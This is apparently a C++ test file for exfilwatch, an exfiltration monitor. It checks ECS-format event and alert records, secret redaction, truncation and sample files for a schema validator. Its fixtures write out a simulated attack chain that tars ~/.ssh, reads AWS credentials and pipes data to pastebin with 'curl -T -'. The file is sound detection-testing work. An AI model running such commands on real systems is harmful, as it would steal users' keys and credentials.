// Tests for output/ecs.cpp: the ECS shape of every record kind, redaction, and sample files for
// the schema validator (ecs_samples.ndjson must validate, ecs_samples_invalid.ndjson must not).
#include <doctest/doctest.h>

#include <unistd.h>

#include <cstdio>
#include <cstdlib>
#include <nlohmann/json.hpp>

#include "ecs_samples.hpp"
#include "output/ecs.hpp"

using namespace exfilwatch;
using nlohmann::json;

namespace {

json parse(const std::string& line)
{
    REQUIRE(line.find('\n') == std::string::npos);
    return json::parse(line);  // strict: throws on invalid JSON or UTF-8
}

std::string sample_path(const char* name)
{
    const char* dir = std::getenv("EXFILWATCH_SAMPLES_DIR");
    return std::string(dir && *dir ? dir : ".") + "/" + name;
}

void write_file(const std::string& path, const std::vector<std::string>& lines)
{
    std::FILE* f = std::fopen(path.c_str(), "w");
    REQUIRE(f != nullptr);
    for (const auto& line : lines) {
        std::fwrite(line.data(), 1, line.size(), f);
        std::fputc('\n', f);
    }
    REQUIRE(std::fclose(f) == 0);
}

}  // namespace

TEST_CASE("exec record: ECS process fields, placement and extension")
{
    auto r = parse(output::to_ndjson_line(Event{samples::events()[0]}));
    CHECK(r["@timestamp"] == "2026-11-29T02:49:11.123456789Z");
    CHECK(r["event"]["kind"] == "event");
    CHECK(r["event"]["action"] == "exec");
    CHECK(r["event"]["category"] == json::array({"process"}));
    CHECK(r["event"]["type"] == json::array({"start"}));
    const auto& p = r["process"];
    CHECK(p["pid"] == 4242);
    CHECK(p["entity_id"] == "b1946ac9-4242-1795920500000000000");
    CHECK(p["executable"] == "/usr/bin/curl");
    CHECK(p["name"] == "curl");
    CHECK(p["args"].size() == 6);
    CHECK(p["args"][5] == "caf\xC3\xA9 \"quoted\"\n");
    CHECK(p["args_count"] == 6);
    CHECK(p["command_line"] == "curl -T - https://pastebin.com:8443/ -o caf\xC3\xA9 \"quoted\"\n");
    CHECK(p["parent"]["pid"] == 4200);
    CHECK(p["parent"]["entity_id"] == "b1946ac9-4200-1795920400000000000");
    CHECK(p["group_leader"]["pid"] == 4242);
    CHECK(p["session_leader"]["pid"] == 4000);
    CHECK(p["user"]["id"] == "1000");
    CHECK(p["start"] == "2026-11-29T02:49:06.123456789Z");
    CHECK(r["container"]["id"] == samples::process().container_id);
    CHECK(r["orchestrator"]["resource"]["type"] == "pod");
    CHECK(r["orchestrator"]["resource"]["id"] == samples::process().pod_uid);
    CHECK(r["exfilwatch"]["process"]["args_truncated"] == false);
    CHECK(r["exfilwatch"]["process"]["has_tty"] == true);
    CHECK(r["exfilwatch"]["process"]["cgroup_id"] == "12345");  // u64: a string
    CHECK(p["interactive"] == true);
}

TEST_CASE("non-UTF-8 argv is repaired and secrets are redacted")
{
    auto line = output::to_ndjson_line(Event{samples::events()[1]});
    CHECK(line.find("hunter2") == std::string::npos);
    auto r = parse(line);
    CHECK(r["process"]["name"] == "t\xEF\xBF\xBDol");
    CHECK(r["process"]["executable"] == "/tmp/\xEF\xBF\xBD\xEF\xBF\xBD\x01tool");
    CHECK(r["process"]["args"][4] == std::string("nul\0byte", 8));
    CHECK(r["process"]["args_count"] == 5);
    CHECK(r["exfilwatch"]["process"]["args_truncated"] == true);
    CHECK_FALSE(r.contains("container"));
    CHECK_FALSE(r.contains("orchestrator"));
    CHECK_FALSE(r["process"].contains("start"));
    CHECK_FALSE(r["process"]["parent"].contains("entity_id"));
}

TEST_CASE("fork and exit records")
{
    auto evs = samples::events();
    auto fork = parse(output::to_ndjson_line(evs[2]));
    CHECK(fork["event"]["action"] == "fork");
    CHECK(fork["process"]["pid"] == 4243);
    auto exit = parse(output::to_ndjson_line(evs[3]));
    CHECK(exit["event"]["action"] == "exit");
    CHECK(exit["event"]["type"] == json::array({"end"}));
    CHECK(exit["process"]["exit_code"] == 130);
    CHECK(exit["process"]["end"] == "2026-11-29T02:49:11.123456792Z");
}

TEST_CASE("file-open and file-summary records")
{
    auto evs = samples::events();
    auto ok = parse(output::to_ndjson_line(evs[5]));
    CHECK(ok["event"]["action"] == "file-open");
    CHECK(ok["event"]["outcome"] == "success");
    CHECK(ok["file"]["path"] == "/home/alice/.ssh/id_ed25519");
    CHECK(ok["file"]["inode"] == "1311");
    CHECK(ok["file"]["device"] == "2049");
    CHECK(ok["exfilwatch"]["file"]["requested_path"] == ".ssh/id_ed25519");
    CHECK(ok["exfilwatch"]["file"]["fd"] == 3);
    CHECK(ok["exfilwatch"]["file"]["flags"] == 0x80000);
    CHECK_FALSE(ok["exfilwatch"]["file"].contains("error"));

    auto denied = parse(output::to_ndjson_line(evs[6]));
    CHECK(denied["event"]["outcome"] == "failure");
    CHECK(denied["exfilwatch"]["file"]["error"] == "EACCES");
    CHECK(denied["exfilwatch"]["file"]["errno"] == 13);
    CHECK(denied["exfilwatch"]["file"]["fd"] == -1);

    auto unknown = parse(output::to_ndjson_line(evs[7]));
    CHECK_FALSE(unknown["exfilwatch"]["file"].contains("error"));
    CHECK(unknown["exfilwatch"]["file"]["errno"] == 4000);

    auto sum = parse(output::to_ndjson_line(evs[8]));
    CHECK(sum["event"]["action"] == "file-summary");
    CHECK(sum["file"]["path"] == "/home/alice/.aws/credentials");
    CHECK(sum["exfilwatch"]["file"]["bytes_read"] == 4096);
    CHECK(sum["exfilwatch"]["file"]["bytes_mapped"] == 8192);
    CHECK(sum["exfilwatch"]["file"]["opened_for_write"] == true);
}

TEST_CASE("network records: connect, tls, dns, http, flow")
{
    auto evs = samples::events();
    auto c = parse(output::to_ndjson_line(evs[9]));
    CHECK(c["event"]["action"] == "connect");
    CHECK(c["source"]["ip"] == "10.0.0.2");
    CHECK(c["destination"]["ip"] == "127.0.0.1");
    CHECK(c["destination"]["port"] == 8443);
    CHECK(c["destination"]["domain"] == "pastebin.com");
    CHECK(c["network"]["transport"] == "tcp");
    CHECK(c["network"]["type"] == "ipv4");
    CHECK(c["exfilwatch"]["flow"]["cookie"] == "77");
    auto c6 = parse(output::to_ndjson_line(evs[10]));
    CHECK(c6["network"]["type"] == "ipv6");
    CHECK(c6["network"]["transport"] == "udp");
    CHECK(c6["exfilwatch"]["flow"]["cookie"] == "18446744073709551615");

    auto tls = parse(output::to_ndjson_line(evs[11]));
    CHECK(tls["tls"]["client"]["server_name"] == "pastebin.com");
    CHECK(tls["tls"]["version"] == "1.3");
    CHECK(tls["tls"]["version_protocol"] == "tls");
    CHECK(tls["exfilwatch"]["tls"]["alpn"] == json::array({"h2", "http/1.1"}));
    CHECK(tls["exfilwatch"]["tls"]["version_code"] == 0x0304);
    auto tls_odd = parse(output::to_ndjson_line(evs[12]));
    CHECK_FALSE(tls_odd["tls"].contains("version"));

    auto dns = parse(output::to_ndjson_line(evs[13]));
    CHECK(dns["dns"]["question"]["name"] == "www.pastebin.com");
    CHECK(dns["dns"]["resolved_ip"] == json::array({"104.20.1.1", "2606:4700::6812:1"}));
    const auto& answers = dns["dns"]["answers"];
    REQUIRE(answers.size() == 4);
    CHECK(answers[0] == json{{"name", "www.pastebin.com"}, {"type", "CNAME"}, {"data", "pastebin.com"}});
    CHECK(answers[1] == json{{"name", "pastebin.com"}, {"type", "CNAME"}, {"data", "cdn.example.net"}});
    CHECK(answers[2] == json{{"name", "cdn.example.net"}, {"type", "A"}, {"data", "104.20.1.1"}});
    CHECK(answers[3]["type"] == "AAAA");

    auto http = parse(output::to_ndjson_line(evs[15]));
    CHECK(http["http"]["request"]["method"] == "PUT");
    CHECK(http["url"]["domain"] == "pastebin.com");
    CHECK(http["url"]["path"] == "/api/upload");
    auto connect = parse(output::to_ndjson_line(evs[16]));
    CHECK(connect["exfilwatch"]["http"]["connect_target"] == "transfer.sh:443");

    auto flow = parse(output::to_ndjson_line(evs[17]));
    CHECK(flow["event"]["action"] == "flow-summary");
    CHECK(flow["event"]["type"] == json::array({"connection", "end"}));
    CHECK(flow["source"]["bytes"] == 1048576);
    CHECK(flow["destination"]["bytes"] == 512);
    CHECK(flow["network"]["bytes"] == 1049088);
    CHECK(flow["exfilwatch"]["flow"]["final"] == true);
    CHECK(flow["exfilwatch"]["flow"]["domain_source"] == "sni");
}

TEST_CASE("alert record")
{
    auto r = parse(output::to_ndjson_line(samples::alert()));
    CHECK(r["event"]["kind"] == "alert");
    CHECK(r["event"]["action"] == "exfiltration-suspected");
    CHECK(r["event"]["risk_score"] == 87);
    CHECK(r["rule"]["name"] == "sensitive-file-to-paste-site");
    CHECK(r["threat"]["framework"] == "MITRE ATT&CK");
    // ECS: threat.tactic.* and threat.technique.* are arrays.
    CHECK(r["threat"]["tactic"]["id"] == json::array({"TA0010"}));
    CHECK(r["threat"]["tactic"]["name"] == json::array({"Exfiltration"}));
    CHECK(r["threat"]["technique"]["id"] == json::array({"T1567"}));
    CHECK(r["threat"]["technique"]["name"] == json::array({"Exfiltration Over Web Service"}));
    CHECK(r["threat"]["technique"]["reference"] == json::array({"https://attack.mitre.org/techniques/T1567/"}));
    CHECK(r["threat"]["technique"]["subtechnique"]["id"] == json::array({"T1567.003"}));
    CHECK(r["threat"]["technique"]["subtechnique"]["name"] == json::array({"Exfiltration to Text Storage Sites"}));
    CHECK(r["threat"]["technique"]["subtechnique"]["reference"] ==
          json::array({"https://attack.mitre.org/techniques/T1567/003/"}));
    CHECK(r["rule"]["id"] == "sensitive-file-to-paste-site");
    CHECK(r["rule"]["ruleset"] == "built-in");
    CHECK(r["network"]["direction"] == "egress");
    CHECK_FALSE(r["event"].contains("id"));  // no incident id given: none is made up
    CHECK(r["event"]["type"] == json::array({"info"}));
    CHECK(r["source"]["bytes"] == 1048576);
    CHECK(r["destination"]["bytes"] == 512);
    CHECK(r["destination"]["domain"] == "pastebin.com");
    CHECK(r["exfilwatch"]["signals"].size() == 3);
    CHECK(r["exfilwatch"]["signals"][0]["weight"] == 40);
    CHECK(r["exfilwatch"]["files"][0]["class"] == "ssh-key");
    CHECK_FALSE(r["exfilwatch"]["files"][1].contains("class"));
    REQUIRE(r["exfilwatch"]["chain"].size() == 3);
    CHECK(r["exfilwatch"]["chain"][1]["command_line"] == "tar czf - /home/alice/.ssh");
    CHECK(r.dump().find("hunter2") == std::string::npos);
}

TEST_CASE("state and metric records")
{
    auto s = parse(output::to_ndjson_line(samples::started()));
    CHECK(s["event"]["kind"] == "state");
    CHECK(s["event"]["action"] == "monitor-started");
    CHECK(s["exfilwatch"]["hooks"]["attached"] == json::array({"tp_btf/sched_process_exec"}));
    CHECK(s["exfilwatch"]["hooks"]["degraded"][0]["name"] == "uprobe/libssl.so.3:SSL_write");
    CHECK(s["exfilwatch"]["hooks"]["degraded"][0]["reason"] == "libssl.so.3 not found");
    CHECK(s["exfilwatch"]["rules"]["source"] == "built-in");
    CHECK(s["exfilwatch"]["events"] == "all");
    CHECK(s["service"]["version"] == "0.1.0");
    CHECK(s["exfilwatch"]["capabilities"] == json::array({"cap_sys_ptrace"}));
    auto reload = parse(output::to_ndjson_line(samples::rules_reloaded()));
    CHECK(reload["event"]["action"] == "rules-reloaded");
    CHECK(reload["exfilwatch"]["rules"]["source"] == "/etc/exfilwatch/rules.yaml");
    CHECK_FALSE(reload["event"].contains("reason"));
    auto stop = parse(output::to_ndjson_line(samples::stopped()));
    CHECK(stop["event"]["action"] == "monitor-stopped");
    CHECK(stop["event"]["reason"] == "SIGINT");
    auto m = parse(output::to_ndjson_line(samples::metrics()));
    CHECK(m["event"]["kind"] == "metric");
    CHECK(m["event"]["action"] == "stats");
    CHECK(m["exfilwatch"]["stats"]["processes.live"] == 310);
}

TEST_CASE("helpers: errno names, TLS versions, actions")
{
    CHECK(output::errno_name(2) == "ENOENT");
    CHECK(output::errno_name(0).empty());
    CHECK(output::errno_from_name("EACCES") == 13);
    CHECK(output::errno_from_name("ENOPE") == 0);
    CHECK(output::tls_version_text(0x0303) == "1.2");
    CHECK(output::tls_version_text(0x1234).empty());
    CHECK(output::event_action(Event{FlowSummaryEvent{}}) == "flow-summary");
}

// Writes every record kind for tests/tools/validate_ndjson.py, plus records the schemas must
// reject. Run the validator over both (see the report / Makefile).
TEST_CASE("sample files for the schema validator")
{
    std::vector<std::string> valid;
    for (const auto& e : samples::events()) valid.push_back(output::to_ndjson_line(e));
    valid.push_back(output::to_ndjson_line(samples::alert()));
    Alert bare;  // an alert with nothing optional
    bare.time = samples::t0;
    bare.rule_name = "r";
    bare.reason = "why";
    valid.push_back(output::to_ndjson_line(bare));
    valid.push_back(output::to_ndjson_line(samples::started()));
    valid.push_back(output::to_ndjson_line(samples::stopped()));
    valid.push_back(output::to_ndjson_line(samples::rules_reloaded()));
    valid.push_back(output::to_ndjson_line(samples::metrics()));
    valid.push_back(output::to_ndjson_line(Event{ExecEvent{}}));  // all defaults
    valid.push_back(output::to_ndjson_line(samples::incident_update()));
    valid.push_back(output::to_ndjson_line(samples::blind_spot()));
    valid.push_back(output::to_ndjson_line(samples::oversized_alert()));
    valid.push_back(output::to_ndjson_line(Event{ExecEvent{samples::t0, samples::oversized_process()}}));
    for (const auto& line : valid) CHECK_NOTHROW(parse(line));
    write_file(sample_path("ecs_samples.ndjson"), valid);

    // Each must fail validation: a required field missing, a wrong type, an unknown kind...
    std::vector<std::string> invalid;
    auto mutate = [&](const std::string& line, auto&& change) {
        auto r = json::parse(line);
        change(r);
        invalid.push_back(r.dump());
    };
    const auto exec = valid[0];
    mutate(exec, [](json& r) { r["process"].erase("pid"); });
    mutate(exec, [](json& r) { r["process"]["pid"] = "4242"; });
    mutate(exec, [](json& r) { r.erase("@timestamp"); });
    mutate(exec, [](json& r) { r["@timestamp"] = "2026-11-29 02:49:11"; });
    mutate(exec, [](json& r) { r["event"]["kind"] = "telemetry"; });
    mutate(exec, [](json& r) { r["event"]["action"] = "teleport"; });
    mutate(exec, [](json& r) { r.erase("process"); });
    mutate(valid[5], [](json& r) { r.erase("file"); });                              // file-open
    mutate(valid[8], [](json& r) { r["exfilwatch"]["file"].erase("bytes_read"); });  // file-summary
    mutate(valid[9], [](json& r) { r["destination"].erase("ip"); });                 // connect
    mutate(valid[9], [](json& r) { r["network"]["transport"] = "sctp"; });
    mutate(valid[11], [](json& r) { r["exfilwatch"]["flow"].erase("cookie"); });  // tls
    mutate(valid[13], [](json& r) { r["dns"].erase("question"); });               // dns
    mutate(valid[15], [](json& r) { r.erase("http"); });                          // http
    mutate(valid[17], [](json& r) { r["source"].erase("bytes"); });               // flow
    const auto alert = valid[samples::events().size()];
    mutate(alert, [](json& r) { r["event"].erase("risk_score"); });
    mutate(alert, [](json& r) { r["event"]["risk_score"] = 101; });
    mutate(alert, [](json& r) { r["threat"]["tactic"]["id"] = "TA0001"; });
    mutate(alert, [](json& r) { r["exfilwatch"]["signals"][0].erase("weight"); });
    const std::size_t extra = 4;  // the records after the all-defaults exec
    const auto state = valid[valid.size() - 5 - extra];
    mutate(state, [](json& r) { r["exfilwatch"].erase("hooks"); });
    mutate(state, [](json& r) { r["exfilwatch"]["hooks"]["degraded"][0].erase("reason"); });
    mutate(state, [](json& r) { r["exfilwatch"]["capabilities"] = "cap_bpf"; });
    mutate(valid[valid.size() - 4 - extra], [](json& r) { r["event"].erase("reason"); });      // monitor-stopped
    mutate(valid[valid.size() - 3 - extra], [](json& r) { r["exfilwatch"].erase("rules"); });  // rules-reloaded
    mutate(valid[valid.size() - 2 - extra], [](json& r) { r["exfilwatch"]["stats"]["alerts"] = -1; });
    mutate(valid[valid.size() - 2 - extra], [](json& r) { r["exfilwatch"].erase("stats"); });
    // Every record: ecs, host, agent, event.created/dataset; u64 values as strings; threat arrays.
    mutate(exec, [](json& r) { r.erase("ecs"); });
    mutate(exec, [](json& r) { r["ecs"]["version"] = "8.0.0"; });
    mutate(exec, [](json& r) { r.erase("host"); });
    mutate(exec, [](json& r) { r["agent"].erase("type"); });
    mutate(exec, [](json& r) { r["event"].erase("created"); });
    mutate(exec, [](json& r) { r["exfilwatch"]["process"]["cgroup_id"] = 12345; });
    mutate(valid[9], [](json& r) { r["exfilwatch"]["flow"]["cookie"] = 77; });
    mutate(valid[9], [](json& r) { r["network"]["direction"] = "ingress"; });
    mutate(alert, [](json& r) { r["threat"]["technique"]["id"] = "T1567"; });
    mutate(alert, [](json& r) { r["rule"].erase("ruleset"); });
    mutate(alert, [](json& r) { r["event"]["type"] = json::array({"change"}); });
    const auto blind = valid[valid.size() - 3];
    mutate(blind, [](json& r) { r["exfilwatch"]["blind_spot"].erase("cause"); });
    mutate(blind, [](json& r) { r["exfilwatch"].erase("processes"); });
    mutate(valid.back(), [](json& r) { r["exfilwatch"]["truncated"] = false; });
    write_file(sample_path("ecs_samples_invalid.ndjson"), invalid);

    // Each must fail tests/tools/check_ecs.py: not an ECS field, wrong ECS type, scalar for an
    // ECS array, a value ECS does not allow, an empty object, a line over 16 KiB.
    std::vector<std::string> not_ecs;
    auto violate = [&](const std::string& line, auto&& change) {
        auto r = json::parse(line);
        change(r);
        not_ecs.push_back(r.dump());
    };
    violate(exec, [](json& r) { r["process"]["has_tty"] = true; });  // custom field outside exfilwatch.*
    violate(exec, [](json& r) { r["telemetry"] = 1; });
    violate(exec, [](json& r) { r["process"]["pid"] = "4242"; });
    violate(exec, [](json& r) { r["process"]["interactive"] = "yes"; });
    violate(exec, [](json& r) { r["process"]["start"] = "yesterday"; });
    violate(exec, [](json& r) { r["event"]["type"] = json::array({"begin"}); });
    violate(exec, [](json& r) { r["event"]["category"] = "process"; });
    violate(exec, [](json& r) { r["ecs"]["version"] = "8.11.0"; });
    violate(exec, [](json& r) { r["exfilwatch"]["process"]["spare"] = json::object(); });
    violate(exec, [](json& r) { r["exfilwatch"]["pad"] = std::string(16384, 'p'); });
    violate(exec, [](json& r) { r.erase("agent"); });
    violate(valid[9], [](json& r) { r["source"] = json::object(); });
    violate(valid[9], [](json& r) { r["network"]["direction"] = "sideways"; });
    violate(valid[9], [](json& r) { r["destination"]["ip"] = "pastebin.com"; });
    violate(alert, [](json& r) { r["threat"]["tactic"]["id"] = "TA0010"; });
    violate(alert, [](json& r) { r["event"]["kind"] = "incident"; });
    violate(alert, [](json& r) { r["rule"]["ruleset"] = json::array({"built-in"}); });
    write_file(sample_path("ecs_samples_not_ecs.ndjson"), not_ecs);
}

TEST_CASE("the hot-path encoder writes exactly what to_ndjson_line writes, cached argv included")
{
    output::EcsEncoder encoder;
    auto events = samples::events();
    ProcessRef secret = samples::process();
    secret.args = {"curl", "-u", "alice:hunter2", "https://hooks.slack.com/services/T0/B0/XXXXXXXXXXXXXXXXXXXXXXXX"};
    events.push_back(ExecEvent{samples::t0, secret});
    ProcessRef huge = samples::process();
    huge.args = {"sh", "-c", std::string(output::ArgsCache::max_argv_bytes + 10, 'x') + " --password=hunter2"};
    events.push_back(ExecEvent{samples::t0, huge});
    for (int round = 0; round < 2; ++round) {  // the second round hits the cache
        for (const auto& e : events) CHECK(encoder.line(e) == output::to_ndjson_line(e));
        CHECK(encoder.line(samples::alert()) == output::to_ndjson_line(samples::alert()));
    }
    const auto line = std::string(encoder.line(events[events.size() - 2]));
    CHECK(line.find("hunter2") == std::string::npos);
    CHECK(line.find("XXXXXXXXXXXXXXXXXXXXXXXX") == std::string::npos);
    CHECK(std::string(encoder.line(events.back())).find("hunter2") == std::string::npos);

    output::ArgsCache cache;
    const std::vector<std::string> argv{"git", "push", "https://user:tok@github.com/o/r"};
    auto first = std::string(cache.members(argv));
    CHECK(cache.misses() == 1);
    CHECK(cache.members(argv) == first);
    CHECK(cache.hits() == 1);
    auto other = argv;
    other[1] = "pull";
    CHECK(cache.members(other) != first);  // same slot or not, a different argv is never a hit
    CHECK(cache.hits() == 1);

    // The cached ecs/host/agent block is the one of the context the record is written for.
    output::Context a, b;
    a.host_name = "node-a";
    a.agent_ephemeral_id = "run-a";
    b.host_name = "node-b";
    b.host_id = b.agent_id = "0123456789abcdef0123456789abcdef";
    for (const auto* context : {&a, &b, &a}) {
        std::string cached, plain;
        output::JsonWriter with_cache(cached), without(plain);
        output::write_event(with_cache, events.front(), &cache, *context);
        output::write_event(without, events.front(), nullptr, *context);
        CHECK(cached == plain);
        CHECK(cached.find(context->host_name) != std::string::npos);
    }
}

TEST_CASE("every record says its ECS version, host, agent, dataset and when it was written")
{
    output::Context context;
    context.host_name = "node-1";
    context.host_hostname = "node-1.example";
    context.host_id = "0123456789abcdef0123456789abcdef";
    context.agent_id = context.host_id;
    context.agent_ephemeral_id = "run-1";
    context.ruleset = "/etc/exfilwatch/rules.yaml";
    context.clock = [] { return samples::t0 + 42; };
    std::vector<json> records;
    for (const auto& e : samples::events()) records.push_back(parse(output::to_ndjson_line(e, context)));
    records.push_back(parse(output::to_ndjson_line(samples::alert(), context)));
    records.push_back(parse(output::to_ndjson_line(samples::blind_spot(), context)));
    records.push_back(parse(output::to_ndjson_line(samples::started(), context)));
    records.push_back(parse(output::to_ndjson_line(samples::metrics(), context)));
    for (const auto& r : records) {
        CAPTURE(r.dump());
        CHECK(r["ecs"]["version"] == "9.4.0");
        CHECK(r["host"]["name"] == "node-1");
        CHECK(r["host"]["hostname"] == "node-1.example");
        CHECK(r["host"]["id"] == "0123456789abcdef0123456789abcdef");
        CHECK(r["agent"]["type"] == "exfilwatch");
        CHECK(r["agent"]["version"] == EXFILWATCH_VERSION);
        CHECK(r["agent"]["id"] == "0123456789abcdef0123456789abcdef");
        CHECK(r["agent"]["ephemeral_id"] == "run-1");
        CHECK(r["event"]["created"] == "2026-11-29T02:49:11.123456831Z");
        CHECK(r["event"]["module"] == "exfilwatch");
        CHECK(r["event"]["dataset"] ==
              "exfilwatch." +
                  std::string(r["event"]["kind"] == "event" ? "telemetry" : r["event"]["kind"].get<std::string>()));
    }
    CHECK(records[samples::events().size()]["rule"]["ruleset"] == "/etc/exfilwatch/rules.yaml");
    // Without a clock (replay round trips), event.created is the record's own time.
    auto plain = parse(output::to_ndjson_line(samples::alert()));
    CHECK(plain["event"]["created"] == plain["@timestamp"]);
    // Nothing known about the host: no empty host object, no made-up id.
    auto bare = parse(output::to_ndjson_line(samples::alert(), output::Context{}));
    CHECK_FALSE(bare.contains("host"));
    CHECK_FALSE(bare["agent"].contains("id"));
}

TEST_CASE("the local context: NODE_NAME names the host in a pod, and the machine id is the host's")
{
    ::setenv("NODE_NAME", "worker-7", 1);
    auto pod = output::Context::local("built-in");
    ::unsetenv("NODE_NAME");
    auto host = output::Context::local("built-in");
    CHECK(pod.host_name == "worker-7");
    char name[256] = {};
    REQUIRE(::gethostname(name, sizeof name - 1) == 0);
    CHECK(host.host_name == name);
    CHECK(host.host_hostname == name);
    // In a pod (NODE_NAME) the hostname is reported only when it is the host's: the monitor shares
    // the UTS namespace of PID 1.
    char own[128] = {}, init[128] = {};
    const bool shared = ::readlink("/proc/self/ns/uts", own, sizeof own - 1) > 0 &&
                        ::readlink("/proc/1/ns/uts", init, sizeof init - 1) > 0 && std::string(own) == init;
    CHECK(pod.host_hostname == (shared ? std::string(name) : std::string()));
    CHECK(host.host_id == pod.host_id);
    if (!host.host_id.empty()) CHECK(host.host_id.size() == 32);
    CHECK(host.agent_id == host.host_id);
    CHECK(host.agent_ephemeral_id.size() == 36);
    CHECK(host.agent_ephemeral_id != pod.agent_ephemeral_id);
}

TEST_CASE("an incident's alert carries its id; a rising score is a change of it")
{
    auto first = samples::alert();
    first.incident_id = "inc-4242-pastebin.com";
    auto r = parse(output::to_ndjson_line(first));
    CHECK(r["event"]["id"] == "inc-4242-pastebin.com");
    CHECK(r["event"]["type"] == json::array({"info"}));
    auto update = parse(output::to_ndjson_line(samples::incident_update()));
    CHECK(update["event"]["id"] == samples::incident_update().incident_id);
    CHECK(update["event"]["type"] == json::array({"info", "change"}));
}

TEST_CASE("blind spot record: an alert-kind record of what was lost and for whom")
{
    auto r = parse(output::to_ndjson_line(samples::blind_spot()));
    CHECK(r["event"]["kind"] == "alert");
    CHECK(r["event"]["action"] == "monitor-blind-spot");
    CHECK(r["event"]["reason"] == samples::blind_spot().detail);
    CHECK(r["message"] == samples::blind_spot().detail);
    CHECK(r["exfilwatch"]["blind_spot"]["cause"] == "ringbuf_full");
    CHECK(r["exfilwatch"]["blind_spot"]["lost"] == 906687);
    REQUIRE(r["exfilwatch"]["processes"].size() == 2);
    CHECK(r["exfilwatch"]["processes"][0]["pid"] == 4242);
    CHECK(r["exfilwatch"]["processes"][1]["command_line"].get<std::string>().find("hunter2") == std::string::npos);
    output::EcsEncoder encoder;
    CHECK(encoder.line(samples::blind_spot()) == output::to_ndjson_line(samples::blind_spot()));
}

TEST_CASE("no empty objects: unknown endpoints and names are left out")
{
    auto connect = parse(output::to_ndjson_line(samples::events()[10]));  // no source address
    CHECK_FALSE(connect.contains("source"));
    CHECK(connect["destination"]["ip"] == "2001:db8::1");
    auto tls = parse(output::to_ndjson_line(samples::events()[12]));  // no SNI, no destination
    CHECK_FALSE(tls.contains("destination"));
    CHECK_FALSE(tls["tls"].contains("client"));
    std::vector<std::string> lines;
    for (const auto& e : samples::events()) lines.push_back(output::to_ndjson_line(e));
    lines.push_back(output::to_ndjson_line(Event{ExecEvent{}}));
    lines.push_back(output::to_ndjson_line(Event{ConnectEvent{}}));
    lines.push_back(output::to_ndjson_line(Event{TlsClientHelloEvent{}}));
    lines.push_back(output::to_ndjson_line(Event{HttpRequestEvent{}}));
    for (const auto& line : lines) {
        CAPTURE(line);
        CHECK(line.find("{}") == std::string::npos);
    }
}

TEST_CASE("no line passes 16 KiB: long chains, evidence and argv are cut with a marker, never mid-UTF-8")
{
    const auto alert_line = output::to_ndjson_line(samples::oversized_alert());
    const auto exec_line = output::to_ndjson_line(Event{ExecEvent{samples::t0, samples::oversized_process()}});
    output::EcsEncoder encoder;
    CHECK(encoder.line(samples::oversized_alert()) == alert_line);
    for (const auto& line : {alert_line, exec_line}) {
        CHECK(line.size() <= output::max_line_bytes);
        auto r = parse(line);  // strict UTF-8: a cut inside a sequence would throw
        CHECK(r["exfilwatch"]["truncated"] == true);
        CHECK(line.find(output::truncation_marker) != std::string::npos);
    }
    auto a = parse(alert_line);
    CHECK(a["event"]["risk_score"] == 87);  // what matters survives
    CHECK(a["threat"]["technique"]["subtechnique"]["id"] == json::array({"T1567.003"}));
    CHECK(a["exfilwatch"]["chain"].size() < samples::oversized_alert().chain.size());
    CHECK(a["exfilwatch"]["chain"].size() >= 1);
    auto e = parse(exec_line);
    CHECK(e["process"]["args_count"] == samples::oversized_process().args.size());  // the real count stays
    // A record that fits is never touched.
    const auto normal = output::to_ndjson_line(samples::alert());
    CHECK(normal.find("\"truncated\":true") == std::string::npos);
    // Records whose size is all escapes: 4 KiB of control bytes and of U+2028 in one argument.
    ProcessRef escapes = samples::process();
    escapes.args = {"x", std::string(4096, '\x01'), std::string(1365 * 3, 'a')};
    for (std::size_t i = 0; i < 1365; ++i) escapes.args[2].replace(i * 3, 3, "\xE2\x80\xA8");
    const auto line = output::to_ndjson_line(Event{ExecEvent{samples::t0, escapes}});
    CHECK(line.size() <= output::max_line_bytes);
    CHECK_NOTHROW(parse(line));
    CHECK(line.find("\xE2\x80\xA8") == std::string::npos);
}
